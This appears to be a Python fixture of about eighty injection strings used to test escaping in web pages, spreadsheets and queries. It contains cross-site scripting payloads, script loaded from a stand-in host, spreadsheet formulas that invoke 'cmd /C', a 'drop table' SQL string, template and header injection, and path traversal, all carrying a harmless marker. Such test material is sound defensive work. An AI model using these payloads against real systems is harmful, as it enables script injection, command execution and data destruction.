"""Eighty texts that a page, a spreadsheet or a query may mistake for something else.

Each that would run contains MARK.
"""

MARK = "loaevil"

MARKUP = [
    f"<script>{MARK}(1)</script>",
    f"</script><script>{MARK}(2)</script>",
    f"<ScRiPt src=//{MARK}.example/x.js></sCrIpT>",
    f"<img src=x onerror={MARK}(3)>",
    f'"><img src=x onerror={MARK}(4)>',
    f"'><svg onload={MARK}(5)>",
    f"<svg/onload={MARK}(6)//",
    f"<svg><script>{MARK}(7)</script></svg>",
    f"<iframe srcdoc='<script>{MARK}(8)</script>'></iframe>",
    f"<iframe src=javascript:{MARK}(9)></iframe>",
    f"<body onload={MARK}(10)>",
    f"<details open ontoggle={MARK}(11)>x</details>",
    f"<input autofocus onfocus={MARK}(12)>",
    f"<video><source onerror={MARK}(13)></video>",
    f"<math><mi xlink:href='javascript:{MARK}(14)'>x</mi></math>",
    f"<object data='data:text/html,<script>{MARK}(15)</script>'></object>",
    f"<embed src='javascript:{MARK}(16)'>",
    f"<form action='javascript:{MARK}(17)'><button>x</button></form>",
    f"<button formaction='javascript:{MARK}(18)'>x</button>",
    f"<base href='//{MARK}.example/'>",
    f"<link rel=stylesheet href='//{MARK}.example/x.css'>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.example/'>",
    f"<style>@import '//{MARK}.example/x.css';</style>",
    f"<a href='javascript:{MARK}(19)'>x</a>",
    f"<template><script>{MARK}(20)</script></template>",
    f"--><script>{MARK}(21)</script><!--",
    f"]]><script>{MARK}(22)</script>",
    f"</title><script>{MARK}(23)</script>",
    f"</textarea><script>{MARK}(24)</script>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}(25)>'>",
    f"<table background='javascript:{MARK}(26)'>",
    f"<x onclick={MARK}(27)>x",
    f"&lt;script&gt;{MARK}(28)&lt;/script&gt;",
    f"&#60;script&#62;{MARK}(29)",
    f"\uff1cscript\uff1e{MARK}(30)\uff1c/script\uff1e",
    f"+ADw-script+AD4-{MARK}(31)",
]
ADDRESSES = [
    f"javascript:{MARK}(32)",
    f"JaVaScRiPt:{MARK}(33)",
    f"java\tscript:{MARK}(34)",
    f"\x01javascript:{MARK}(35)",
    f"javascript://example.org/%0a{MARK}(36)",
    f"vbscript:{MARK}(37)",
    f"data:text/html,<script>{MARK}(38)</script>",
    f'http://example.org/"onmouseover="{MARK}(39)',
    f"http://example.org/'onmouseover='{MARK}(40)",
    f"http://example.org/?a=<script>{MARK}(41)</script>",
    f"//{MARK}.example/x",
    f"http://[{MARK}",
]
TEMPLATES = [
    f"{{{{ {MARK} }}}}",
    f"{{% include '{MARK}' %}}",
    f"${{{MARK}}}",
    f"'; drop table articles; -- {MARK}",
    f"⟪<script>{MARK}(42)</script>⟫",
]
FORMULAS = [
    f'=HYPERLINK("http://{MARK}.example/","x")',
    f"+cmd|' /C {MARK}'!A0",
    f"-2+3+cmd|' /C {MARK}'!A0",
    f"@SUM(1+1)*cmd|' /C {MARK}'!A0",
    f"\t={MARK}",
    f"\r={MARK}",
    f" \u00a0={MARK}",
    f"\uff1d{MARK}",
]
PAYLOADS = [*MARKUP, *ADDRESSES, *TEMPLATES, *FORMULAS]
# For a browser: signs that turn, hide or break a line, styles, and mixtures.
SIGNS = [
    f"\u202e)1({MARK} <b>",
    f"\u2067{MARK}\u2066<i>\u2069 Họp thôn",
    f"\u200b\u200d\ufeff<s>{MARK}</s>",
    f"\x00<script>{MARK}(43)</script>",
    f"\x1b[31m{MARK}\x1b[0m\x1b]8;;http://{MARK}.example/\x07x",
    f"{MARK}" + "w" * 3000,
    f"x;background:url(//{MARK}.example/x.png)",
    f"}} * {{ background: url('//{MARK}.example/y.png') }}",
    f"</style><style>body{{background:url(//{MARK}.example/z.png)}}</style>",
    f"<svg><a xlink:href='javascript:{MARK}(44)'><text y='9'>x</text></a></svg>",
    f"<svg><foreignObject><img src=//{MARK}.example/s.png></foreignObject></svg>",
    f"<svg><animate onbegin={MARK}(45) attributeName=x dur=1s>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}(46)'/>",
    f"<math><style><img src=x onerror={MARK}(47)></style></math>",
    f"<svg></p><style><a id='</style><img src=x onerror={MARK}(48)>'>",
    f"<form id=x></form><button form=x formaction=//{MARK}.example/>x</button>",
    f"<a id=main><a id=find name={MARK}>",
    f"%3Cscript%3E{MARK}(49)%3C/script%3E",
    f"\\u003cscript\\u003e{MARK}(50)",
    f"Họp thôn\r\nX-{MARK}: 1\r\n\r\n<script>{MARK}(51)</script>",
    f"../../{MARK}?#<x>",
]
FOR_BROWSERS = [*PAYLOADS, *SIGNS]
